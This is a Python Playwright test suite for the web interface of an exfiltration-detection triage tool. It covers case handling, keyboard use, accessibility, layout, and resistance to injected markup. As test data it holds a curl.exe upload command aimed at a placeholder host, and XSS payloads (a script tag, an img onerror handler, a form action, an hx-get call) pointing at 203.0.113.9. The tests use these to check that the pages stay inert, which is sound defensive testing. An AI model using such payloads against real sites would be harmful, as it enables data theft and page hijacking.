"""The pages in a real Chromium: from a poll to a closed case by clicks, by keyboard, dark and light, on a phone."""

import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Locator, Page, expect
from tests.cli.telemetry import BITSADMIN, process, write
from tests.doors.scenario import scenario
from tests.findings.made import make
from tests.service.asked import found
from tests.service.program import Program, said, serving

from exfilwatch.detection.load import load
from exfilwatch.findings.finding import Finding
from exfilwatch.findings.store import Store
from exfilwatch.rules.packs import pack

from .clicks import told
from .kept import hostile

RIGHT_TO_LEFT = ("\u05de\u05d7\u05e9\u05d1-7", "\u062d\u0627\u0633\u0648\u0628.example.org")
LONG = "curl.exe -T " + "C:\\" + "x" * 3000 + ".zip https://" + "y" * 3000 + ".example/"


class Visitor:
    """A browser that is logged in, all that it asked for, and all that it complained of."""

    def __init__(self, browser: Browser, program: Program, token: str, **options) -> None:
        self.url = program.url
        self._context = browser.new_context(**{"viewport": {"width": 1280, "height": 860}, **options})
        self.page: Page = self._context.new_page()
        self.asked: list[str] = []
        self.complaints: list[str] = []
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", lambda dialog: self.complaints.append(dialog.message))
        self.page.goto(self.url)
        self.page.get_by_label("Token").fill(token)
        self.page.get_by_role("button", name="Log in").click()

    def ready(self, selector: str) -> None:
        """Wait until it is shown, and keys are listened to."""
        expect(self.page.locator(f"html.scripted {selector}")).to_be_visible()

    def waits_for(self, wanted: Locator) -> None:
        """Load the page again until it has it."""
        expect(wanted).to_have_count(0)
        for _ in range(60):
            self.page.reload()
            if wanted.count():
                return
            self.page.wait_for_timeout(500)
        expect(wanted).to_be_visible()

    def was_quiet(self) -> bool:
        """Whether nothing but the service was asked, and nothing went wrong."""
        return all(each.startswith(self.url + "/") for each in self.asked) and not self.complaints

    def close(self) -> None:
        self._context.close()


def token(home: Path, *scopes: str, **values) -> str:
    return said(home, "tokens", "add", "-".join(scopes), "--scope", ",".join(scopes), values=values).split()[-1]


@pytest.fixture(scope="module")
def home(tmp_path_factory) -> Path:
    """Incidents: what an attacker would like to see on the pages, and one of two rules."""
    made = tmp_path_factory.mktemp("triage")
    findings = [
        *hostile(),
        make("a", -99999, host="ws-one", level="high"),
        make("b", -99990, host="ws-one", branch="x"),
    ]
    findings += [make(host, -88888, host=host, user=host[::-1], CommandLine=LONG) for host in RIGHT_TO_LEFT]
    store = Store(str(made / "kept.sqlite"))
    store.save(findings)
    records = [process(BITSADMIN, second=second) for second in (2, 900)]
    store.save(found(write(made / "bits.jsonl", *records), load([pack("exfil")])))
    return made


def the_incident(home: Path, host: str = "ws-one") -> str:
    return Store(str(home / "kept.sqlite")).incidents(host=host)[0].id


def to_suppress(home: Path) -> Finding:
    """A finding of a rule that there is, which another one is like."""
    store = Store(str(home / "kept.sqlite"))
    return next(each for each in store.find() if each.events[0].source.endswith("bits.jsonl"))


@pytest.fixture(scope="module")
def kept(home) -> Iterator[tuple[Program, str]]:
    values = {"database": home / "kept.sqlite", "suppressions": home / "suppressions"}
    with serving(home, values=values) as program:
        yield program, token(home, "admin", **values)


@pytest.fixture
def visitor(chromium, kept) -> Iterator[Visitor]:
    made = Visitor(chromium, *kept)
    yield made
    made.close()


def values(site) -> dict:
    return {"config": site.config, "serve__look_every": "1s"}


def test_from_a_poll_to_a_closed_case_by_clicks(chromium) -> None:
    with scenario() as site, serving(site.home, values=values(site)) as program:
        visitor = Visitor(chromium, program, token(site.home, "act", config=site.config))
        shown = visitor.page
        expect(shown.get_by_role("heading", name="Nothing is open")).to_be_visible()
        shown.get_by_role("link", name="Polls").click()
        expect(shown.get_by_role("region", name="logs")).to_contain_text("never polled")
        shown.get_by_role("button", name="Poll now").click()
        expect(shown.get_by_text("read to the end")).to_be_visible(timeout=60_000)
        shown.get_by_role("link", name="Incidents").click()
        gravest = site.gravest()
        shown.locator(f'a[href="/incidents/{gravest.id}"]').click()
        shown.get_by_role("button", name="Open case").click()
        told(shown, "case opened")
        shown.get_by_label("Note").fill("The owner knows nothing of this.")
        shown.get_by_role("button", name="Add note").click()
        told(shown, "got the note")
        site.put_status("resolved")  # somebody closes it in the tracker
        visitor.waits_for(shown.get_by_text("no disposition yet"))
        expect(shown.locator(".head .state")).to_have_text("To judge")
        site.put_status("chatting")
        visitor.waits_for(shown.get_by_text("Opened again"))
        expect(shown.locator(".head .state")).to_have_text("With case")
        shown.get_by_text("Judge it").first.click()
        finding = shown.locator(".findings > li").first
        finding.get_by_label("It is a").select_option("true-positive")
        finding.get_by_label("because").fill("the owner did not do it")
        finding.get_by_role("button", name="Mark").click()
        expect(finding).to_contain_text("the owner did not do it")
        assert shown.url.endswith(gravest.id)
        shown.get_by_label("Close it, because").fill("migration, CHG-1042")
        shown.get_by_label("The others are").select_option("benign")
        shown.get_by_role("button", name="Close case").click()
        told(shown, "is closed")
        expect(shown.locator(".head .state")).to_have_text("Closed")
        shown.get_by_role("link", name="Incidents").first.click()
        shown.get_by_role("link", name=re.compile("^Closed")).click()
        expect(shown.locator(".list tbody tr")).to_have_count(1)
        assert visitor.was_quiet(), visitor.complaints
        visitor.close()
        with ThreadPoolExecutor(1) as elsewhere:  # Playwright keeps a loop running in this thread
            elsewhere.submit(site.check).result()


def test_the_list_is_filtered_while_one_types_and_goes_back(visitor) -> None:
    shown = visitor.page
    visitor.ready(".list")
    before = shown.locator(".list tbody tr").count()
    shown.keyboard.press("/")
    shown.keyboard.type("ws-one", delay=20)
    expect(shown.locator(".list tbody tr")).to_have_count(1)
    assert "text=ws-one" in shown.url
    expect(shown.locator("#text")).to_be_focused()
    shown.go_back()
    expect(shown.locator(".list tbody tr")).to_have_count(before)
    shown.get_by_label("Level").select_option("critical")
    expect(shown.locator(".list tbody tr")).to_have_count(1)
    assert visitor.was_quiet(), visitor.complaints


def test_everything_goes_by_keyboard(visitor) -> None:
    shown = visitor.page
    keys = shown.keyboard
    visitor.ready(".list")
    keys.press("?")
    expect(shown.get_by_role("dialog")).to_be_visible()
    keys.press("Escape")
    expect(shown.get_by_role("dialog")).to_be_hidden()
    for key in "jjk":
        keys.press(key)
    row = shown.locator(".list tr.here")
    wanted = row.locator("a").get_attribute("href")
    assert row.evaluate("row => row === document.querySelectorAll('[data-row]')[0]")
    expect(row.locator("a")).to_be_focused()
    keys.press("o")
    visitor.ready("#findings")
    assert shown.url.endswith(wanted)
    keys.press("c")
    expect(shown.get_by_role("button", name="Open case")).to_be_focused()
    keys.press("j")
    keys.press("o")
    keys.press("u")
    visitor.ready(".list")
    keys.press("g")
    keys.press("p")
    expect(shown.get_by_role("heading", name="Polls")).to_be_visible()
    assert visitor.was_quiet(), visitor.complaints


def test_a_finding_is_suppressed_and_that_is_ended_by_keyboard(visitor, home) -> None:
    shown, keys = visitor.page, visitor.page.keyboard
    finding = to_suppress(home)
    shown.goto(f"{visitor.url}/incidents/{Store(str(home / 'kept.sqlite')).incident_of(finding.id)}")
    visitor.ready("#findings")
    shown.locator(f"#finding-{finding.id}").get_by_role("link", name="Suppress what is like it").focus()
    keys.press("Enter")
    visitor.ready("#until")
    keys.press("c")
    expect(shown.get_by_label("For", exact=True)).to_be_focused()
    for key in ("ArrowDown", "Tab", "Tab", "Tab", "Tab"):  # a day has three parts
        keys.press(key)
    shown.get_by_label("because").focus()
    keys.type("migration, CHG-1042")
    keys.press("Enter")
    expect(shown.get_by_role("heading", name="From now until")).to_be_visible()
    expect(shown.get_by_text("It would also have hidden 1 finding")).to_be_visible()
    shown.get_by_role("button", name="Suppress it").focus()
    keys.press("Enter")
    expect(shown.get_by_role("status").first).to_contain_text("is suppressed until")
    shown.get_by_role("link", name="end it").focus()
    keys.press("Enter")
    expect(shown.get_by_text("holds")).to_be_visible()
    shown.get_by_label("End it now, because").fill("it is done")
    keys.press("Enter")
    expect(shown.get_by_text("(ended early by admin: it is done)")).to_be_visible()
    assert visitor.was_quiet(), visitor.complaints


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(chromium, kept, home, scheme) -> None:
    visitor = Visitor(chromium, *kept, color_scheme=scheme, bypass_csp=True)
    where = the_incident(home)
    only = {"runOnly": ["color-contrast"]} if scheme == "dark" else None  # colours are all that differs
    found = {}
    suppress = f"/findings/{to_suppress(home).id}/suppress"
    for path in ("/", f"/incidents/{where}", suppress, "/suppressions", "/polls", "/rules", "/audit", "/login"):
        visitor.page.goto(visitor.url + path)
        if path == suppress:
            visitor.page.get_by_label("because").fill("a reason")
            visitor.page.get_by_role("button", name="Show what it would hide").click()
            expect(visitor.page.get_by_role("button", name="Suppress it")).to_be_visible()
        visitor.page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
        violations = Axe().run(visitor.page, options=only).response["violations"]
        grave = [(each["id"], each["nodes"][0]["html"][:200]) for each in violations if each["impact"] != "minor"]
        found |= {path: grave} if grave else {}
    ground = visitor.page.evaluate("getComputedStyle(document.body).backgroundColor")
    visitor.close()
    assert found == {}
    assert ground == {"light": "rgb(243, 244, 247)", "dark": "rgb(16, 20, 27)"}[scheme]


@pytest.mark.parametrize(("width", "zoom"), [(320, 1), (800, 1), (640, 2)])
def test_nothing_is_wider_than_the_screen(chromium, kept, home, width, zoom) -> None:
    """Zoomed, a screen has so many times less room, as browsers do it."""
    size = {"width": width // zoom, "height": 800 // zoom}
    visitor = Visitor(chromium, *kept, viewport=size, device_scale_factor=zoom)
    hosts = ["ws-one", *RIGHT_TO_LEFT]
    paths = ["/", "/?state=", *(f"/incidents/{the_incident(home, host)}" for host in hosts)]
    paths += [f"/findings/{to_suppress(home).id}/suppress", "/suppressions", "/polls", "/rules", "/audit", "/login"]
    for path in paths:
        visitor.page.goto(visitor.url + path)
        visitor.page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
        assert visitor.page.evaluate("document.documentElement.scrollWidth") <= size["width"], path
    visitor.close()


def test_hostile_text_stays_text(visitor, home) -> None:
    shown = visitor.page
    for each in [None, *Store(str(home / "kept.sqlite")).incidents()[-8:]]:
        shown.goto(f"{visitor.url}/incidents/{each.id}" if each else f"{visitor.url}/?state=&order=newest")
        shown.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
        assert shown.title() != "owned"
        assert shown.locator("h1", has_text=re.compile("^owned$")).count() == 0
        assert shown.evaluate("document.querySelectorAll('img, iframe, object, embed, base').length") == 0
        assert shown.evaluate("document.documentElement.scrollWidth") <= 1280
    assert visitor.was_quiet(), visitor.complaints


def test_even_markup_that_got_through_could_do_nothing(visitor) -> None:
    shown = visitor.page
    shown.route(
        "**/polls",
        lambda route: route.fulfill(
            response=(answer := route.fetch()),
            body=answer.text().replace(
                "</main>",
                "<script>document.title='owned'</script><img src=https://203.0.113.9/x "
                "onerror=\"document.title='owned'\"><form action=https://203.0.113.9/><button id=away>x</button></form>"
                "<p hx-get=https://203.0.113.9/ hx-trigger=load>x</p></main>",
            ),
        ),
    )
    gone: list[str] = []
    shown.on("requestfinished", lambda request: gone.append(request.url))
    shown.goto(f"{visitor.url}/polls")
    with shown.expect_console_message(lambda message: "form-action" in message.text):
        shown.evaluate("document.querySelector('#away').click()")
    assert shown.title() != "owned"
    assert gone
    assert all(each.startswith(f"{visitor.url}/") for each in gone)
